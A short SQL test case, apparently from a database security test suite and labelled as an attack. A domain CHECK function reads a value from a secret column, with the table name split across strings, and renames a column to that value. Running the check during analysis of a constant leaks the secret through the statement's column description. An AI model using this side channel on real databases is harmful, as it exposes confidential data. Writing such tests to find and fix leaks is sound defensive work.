-- Has a constant's check rename a column to what it has read while a statement is analysed: its description names the column.
-- wants: read
-- attack:
CREATE FUNCTION names_it(text) RETURNS boolean LANGUAGE plpgsql AS 'DECLARE one text; BEGIN EXECUTE ''SELECT secret FROM vlt'' || ''_account WHERE id = 1'' INTO one; EXECUTE format(''ALTER TABLE named_by_it RENAME COLUMN a TO %I'', one); RETURN true; END';
CREATE DOMAIN naming AS text CHECK (names_it(VALUE));
CREATE TABLE named_by_it (a int);
-- extended
SELECT t.* FROM (SELECT '{1}'::naming[]) s, named_by_it t;
